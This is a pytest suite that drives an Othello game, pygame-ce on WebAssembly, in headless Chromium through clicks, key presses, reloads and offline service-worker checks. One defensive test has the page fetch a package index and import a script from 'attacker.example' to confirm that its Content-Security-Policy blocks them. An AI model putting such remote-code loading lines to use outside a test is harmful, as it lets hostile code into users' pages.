"""The game itself on real WebAssembly in Debian's chromium: pygame-ce, the scenes, the fonts, the frame loop.

The page is the real build (``build/web/``: the template, the packed
archive, the service worker, the catalogs and fonts beside it); only
pygbag's loader and its CPython build are stood in for, by the npm
``pyodide@0.27.8`` (CPython 3.12) with pygbag's own pygame-ce wasm wheel
(``tests/real_browser.py`` says how, ``docs/web.md`` what differs). One page
is booted and played through several flows, by real mouse clicks and key
presses on the canvas, as a person plays it; the assertions read the game's
state from the page's Python and its pixels from the canvas.
"""

from __future__ import annotations

import contextlib
from pathlib import Path

import pytest

from tests.chromium import SwitchableSite, built_site
from tests.devtools import Browser, Tab
from tests.real_browser import RUNTIME_PATH, GamePage, add_runtime, missing_runtime, open_game, pygame_wheel

pytestmark = pytest.mark.skipif(missing_runtime() is not None, reason=str(missing_runtime()))

PASS_GAME = "d3c3e6d2d1e1b2"
"""After these moves White's c1 leaves Black without a move: Black passes and White plays again."""
PYTHON_ERROR_WORDS = ("Traceback", "Error:", "error: othello")


@pytest.fixture(scope="module")
def site(real_page_site: SwitchableSite) -> SwitchableSite:
    """The page built to take its runtime from ``cdn/0.9.3/`` beside it, with the harness's runtime there."""
    return real_page_site


@pytest.fixture(scope="module")
def browser(real_page_browser: Browser) -> Browser:
    """The run's headless chromium."""
    return real_page_browser


@pytest.fixture(scope="module")
def game(browser: Browser, site: SwitchableSite) -> GamePage:
    """The page, booted once and shared by the flows below (each starts from the menu)."""
    return open_game(browser.new_tab(), site.url + "index.html")


def console_errors(tab: Tab) -> list[str]:
    """The console lines that show a Python error or the page's failure."""
    return [line for line in tab.console() if any(word in line for word in PYTHON_ERROR_WORDS)]


# -- the page starts -------------------------------------------------------------------------------


def test_the_page_reaches_the_menu_drawn_on_the_canvas_with_no_python_error(game: GamePage) -> None:
    assert game.failure() is None
    assert game.scene() == "menu"
    assert console_errors(game.tab) == []
    game.tab.wait_for("document.getElementById('transfer').hidden", 5, "the loading screen to go")
    stage = game.tab.evaluate("[othello_loader.stage(), document.getElementById('transfer').hidden,"
                              " getComputedStyle(document.getElementById('canvas')).visibility]")
    assert stage == ["running", True, "visible"]
    # the canvas shows what pygame drew: pixel for pixel at points across the menu, and not one colour
    points = [(40, 40), (640, 60), (640, 400), (300, 700), (1000, 500)]
    on_canvas = [game.pixel(point) for point in points]
    drawn = [tuple(game.python(f"list(app.window.get_at(app.to_window({point!r})))[:3]")) for point in points]
    assert on_canvas == drawn
    assert len(set(on_canvas)) > 1


# -- a whole game, undo and a pass, by clicks ------------------------------------------------------


def test_a_whole_game_against_casual_by_clicks_ends_on_the_results_with_both_scores(game: GamePage) -> None:
    # the discs turn at once, as the Settings' "off" has them: the phone's whole game watches them turn
    game.python("app.ctx.settings.animation = 'off'\nTrue")
    game.start_computer_game("Casual")
    assert game.python("from game.play.levels import level_named\nlevel_named(app.scene.setup.level).name") == "Casual"
    undone = False
    for _ in range(80):
        game.wait_for_python("app.scene_name == 'results' or (type(app.scene).__name__ == 'GameScene' and"
                             " ((app.scene.dialog is None and app.scene.human_can_move() and not app.scene.busy())"
                             " or app.scene.dialog is not None))", 60, "the player's turn")
        if game.scene() == "results":
            break
        if game.python("app.scene.dialog is not None"):
            game.acknowledge_pass()
            continue
        plies = game.python("len(app.scene.record.moves)")
        if plies >= 6 and not undone:
            game.click_button("undo")  # takes back the computer's reply and the player's move
            game.wait_for_python(f"len(app.scene.record.moves) == {plies - 2}", 10, "the undo")
            undone = True
            continue
        game.click_square(game.python("app.scene.position.legal_squares()[0]"))
        game.wait_for_python(f"len(app.scene.record.moves) > {plies} or app.scene_name == 'results'", 10,
                             "the click to play the move")
    assert undone
    assert game.scene() == "results"
    result = game.python("r = app.scene.record.result\n[r.black, r.white]")
    assert sum(result) > 0
    words = " ".join(game.drawn_texts())
    assert str(result[0]) in words and str(result[1]) in words
    assert console_errors(game.tab) == []
    game.python("app.ctx.settings.animation = 'normal'\nTrue")


def test_a_forced_pass_from_a_shared_link_is_announced_and_acknowledged(browser: Browser, site: SwitchableSite) -> None:
    page = open_game(browser.new_tab(), f"{site.url}index.html#{PASS_GAME}")
    try:
        page.wait_for_python("app.scene_name == 'game'", 10, "the linked game")
        assert page.python("app.scene.record.transcript") == PASS_GAME
        page.click_square(2)  # c1: White's move leaves Black without one
        page.wait_for_python("app.scene.dialog is not None", 20, "the pass announcement")
        assert page.python("app.scene.dialog.title") == "Black has no legal move and passes"
        page.click_button("ok")
        page.wait_for_python("app.scene.dialog is None", 10)
        assert page.python("app.scene.position.to_move") == page.python("__import__('game.engine').engine.WHITE")
        assert console_errors(page.tab) == []
    finally:
        page.tab.close()


# -- how to play, by mouse and keyboard ------------------------------------------------------------


def test_how_to_play_takes_the_first_move_and_escape_leaves_it(game: GamePage) -> None:
    game.to_menu()
    game.click_button("scene:tutorial")
    game.wait_for_python("app.scene_name == 'tutorial'", 10)
    view = "app.scene.board.view"
    game.click_logical(tuple(game.python(f"list({view}.square_center(20))")))  # e3: no capture, refused
    assert game.python("app.scene.board.record.ply") == 0
    game.click_logical(tuple(game.python(f"list({view}.square_center(37))")))  # f5
    game.wait_for_python("app.scene.finished_step", 20, "the first step done")
    for _ in range(5):  # Next answers once the flips have settled, as a player sees them do
        game.click_button("next")
        with contextlib.suppress(AssertionError):
            game.wait_for_python("app.scene.index == 1", 2, "the second step")
            break
    assert game.python("app.scene.index") == 1
    game.tab.press("Escape", "Escape", 27)  # a real key press: SDL's keyboard on WebAssembly
    game.wait_for_python("app.scene_name == 'menu'", 10, "Escape to leave How to play")


# -- typing ------------------------------------------------------------------------------------------


KEYS = {"f": ("KeyF", 70), "5": ("Digit5", 53), "d": ("KeyD", 68), "6": ("Digit6", 54), "c": ("KeyC", 67),
        "3": ("Digit3", 51), "4": ("Digit4", 52)}


def test_a_typed_transcript_opens_its_review_with_enter(game: GamePage) -> None:
    game.to_menu()
    game.click_button("scene:transcript")
    game.wait_for_python("app.scene_name == 'transcript'", 10)
    if game.python("app.scene.text"):  # it opens on the last game's transcript: Clear, as a player would
        game.click_button("clear")
        game.wait_for_python("app.scene.text == ''", 10, "Clear")
    for key in "f5d6c3d3c4":  # real key presses: keydown, the character, keyup
        code, key_code = KEYS[key]
        game.tab.press(key, code, key_code, text=key)
    game.wait_for_python("app.scene.text == 'f5d6c3d3c4'", 10, "the typed transcript")
    game.tab.press("Enter", "Enter", 13, text="\r")
    game.wait_for_python("app.scene_name == 'review'", 10, "Enter to open the review")
    assert game.python("app.scene.record.transcript") == "f5d6c3d3c4"
    game.to_menu()


# -- a language fetched from the page's folder ---------------------------------------------------


def test_japanese_fetches_its_catalog_and_font_from_the_page_and_redraws_the_menu(
        game: GamePage, site: SwitchableSite) -> None:
    game.to_menu()
    game.python("from game.scenes.entries import SettingsEntry\napp.scene.open(SettingsEntry())\nTrue")
    game.wait_for_python("app.scene_name == 'settings'", 10)
    game.click_button("language=ja")
    game.wait_for_python("__import__('game.i18n').i18n.language() == 'ja' and app.ctx.assets.script == 'ja'",
                         60, "Japanese, with its font")
    fetched = [path for path in site.requests if "locale/ja.mo" in path or "NotoSansCJK-ja" in path]
    assert any("locale/ja.mo" in path for path in fetched) and any("NotoSansCJK-ja" in path for path in fetched)
    game.to_menu()
    play_the_computer = game.python("from game.i18n import _\n_('Play the computer')")
    assert play_the_computer != "Play the computer"
    assert any("\u3040" <= ch <= "\u9fff" for ch in play_the_computer)  # kana or kanji
    assert play_the_computer in game.python("[b.label for b in app.scene.group.buttons]")
    assert play_the_computer in game.drawn_texts()  # drawn on the menu, in the fetched font
    # back to English for the flows after this one
    game.python("from game.scenes.entries import SettingsEntry\napp.scene.open(SettingsEntry())\nTrue")
    game.wait_for_python("app.scene_name == 'settings'", 10)
    game.click_button("language=en")
    game.wait_for_python("__import__('game.i18n').i18n.language() == 'en'", 10)
    assert console_errors(game.tab) == []


# -- a game survives a reload, and the page works offline ----------------------------------------


def test_a_game_in_progress_survives_a_reload_and_is_offered_again(game: GamePage) -> None:
    game.to_menu()
    game.click_button("two")
    game.wait_for_python("app.scene_name == 'game' or app.scene.dialog is not None", 10)
    if game.scene() == "menu":  # the menu asks first: the linked game of an earlier flow is still saved
        game.click_button("confirm")
        game.wait_for_python("app.scene_name == 'game'", 10)
    for _ in range(3):
        plies = game.python("len(app.scene.record.moves)")
        game.click_square(game.python("app.scene.position.legal_squares()[0]"))
        game.wait_for_python(f"len(app.scene.record.moves) > {plies} and not app.scene.busy()", 10)
    transcript = game.python("app.scene.record.transcript")
    saved = game.tab.evaluate("Object.keys(localStorage).filter(k => k.startsWith('othello:'))")
    assert saved
    page = open_game(game.tab)  # the reload button: Python, pygame and the game start afresh
    assert page.scene() == "menu"
    first = page.python("b = app.scene.group.buttons[0]\n[b.action, b.subtitle]")
    assert first[0] == "continue"
    page.click_button("continue")
    page.wait_for_python("app.scene_name == 'game'", 10)
    assert page.python("app.scene.record.transcript") == transcript


def test_offline_a_reload_reaches_the_menu_from_the_service_workers_copies(
        game: GamePage, site: SwitchableSite) -> None:
    kept = game.tab.wait_for("window.othello_offline.kept", 60, "the service worker to keep the runtime")
    assert kept["failed"] == [], kept
    site.offline = True
    try:
        page = open_game(game.tab)
        assert page.scene() == "menu"
        assert page.tab.evaluate("window.othello_offline.controlled") is True
    finally:
        site.offline = False


def test_offline_after_an_update_the_game_keeps_the_language_in_use(browser: Browser, tmp_path: Path) -> None:
    wheel = pygame_wheel()
    assert wheel is not None

    def published(folder: str, change: str) -> Path:
        def edit(copy: Path) -> None:
            with (copy / "main.py").open("a", encoding="utf-8") as main:
                main.write(f"\n# {change}\n")
        (tmp_path / folder).mkdir()
        return add_runtime(built_site(tmp_path / folder, cdn=RUNTIME_PATH, edit=edit), wheel)

    site = SwitchableSite(published("a", "build a"))
    tab = browser.new_tab()
    try:
        page = open_game(tab, site.url + "index.html")
        tab.wait_for("!!navigator.serviceWorker.controller", 30,
                     "the service worker to take the page")
        page.python("from game.scenes.entries import SettingsEntry\napp.scene.open(SettingsEntry())\nTrue")
        page.wait_for_python("app.scene_name == 'settings'", 10)
        page.click_button("language=ja")
        page.wait_for_python("app.ctx.assets.script == 'ja'", 60, "Japanese, with its font")
        build_a = tab.evaluate("OTHELLO_BUILD")

        site.site = published("b", "build b")  # a new build is published; the visitor comes back
        tab.reload()  # no click to play: the game, and so its language, is not asked for on this visit
        # the old build's page, from its worker, asks for a newer build: the new worker installs and takes over
        tab.wait_for(f"caches.keys().then(names => names.filter(n => n.startsWith('othello:')))"
                     f".then(names => names.length > 0 && !names.some(n => n.endsWith(':{build_a}')))", 60,
                     "the new build's worker to replace the old one's cache")

        site.offline = True
        page = open_game(tab)
        assert tab.evaluate("OTHELLO_BUILD") != build_a  # the new build, offline
        page.wait_for_python("app.ctx.assets.script == 'ja'", 60, "Japanese offline, after the update")
        assert page.python("__import__('game.i18n').i18n.language()") == "ja"
        assert not page.python("[t.message for t in app.ctx.toasts if t.error]")  # no "could not be fetched"
        assert console_errors(tab) == []
    finally:
        site.offline = False
        tab.close()
        site.close()


# -- an error in the game --------------------------------------------------------------------------


REFUSED = ("new Promise((resolve) => {{ document.addEventListener('securitypolicyviolation',"
           " (event) => resolve(event.effectiveDirective), {{ once: true }}); {load} }})")
"""JavaScript: the directive of the page's policy that refuses what ``{load}`` asks for."""


def test_the_pages_policy_refused_nothing_the_game_did_and_refuses_another_origin(game: GamePage) -> None:
    # every flow above ran under the page's Content-Security-Policy (game/web/policy.py), the real
    # pygame-ce on WebAssembly included: the page logs anything refused, and nothing was
    assert game.tab.evaluate("document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]') !== null")
    assert [line for line in game.tab.console() if "blocked by the page's policy" in line] == []
    # a package index or a script on another origin (what a crafted $PYGPI would point at) is refused
    fetch = "fetch('https://attacker.example/cdn/index-0.9.3-cp312.json').catch(() => {})"
    assert game.tab.evaluate(REFUSED.format(load=fetch)) == "connect-src"
    module = "import('https://attacker.example/pygame.js').catch(() => {})"
    assert game.tab.evaluate(REFUSED.format(load=module)) == "script-src-elem"
    assert game.python("app.frames_shown > 0")  # and the game goes on


def test_an_error_in_the_game_shows_the_pages_failure_message(game: GamePage) -> None:
    game.to_menu()
    game.python("def broken(*args):\n    raise ZeroDivisionError('a bug in a scene')\napp.scene.draw = broken\n"
                "app.scene.still = lambda: False\nTrue")  # it draws something else now: no longer the still menu
    shown = game.tab.wait_for("document.getElementById('transfer').dataset.failure", 20, "the failure message")
    assert shown == "python"
    texts = game.tab.evaluate("[document.getElementById('failure-what').textContent,"
                              " document.getElementById('failure-detail').textContent,"
                              " document.getElementById('transfer').hidden]")
    assert texts[0] == "The game stopped because of an error."
    assert "ZeroDivisionError: a bug in a scene" in texts[1]
    assert texts[2] is False
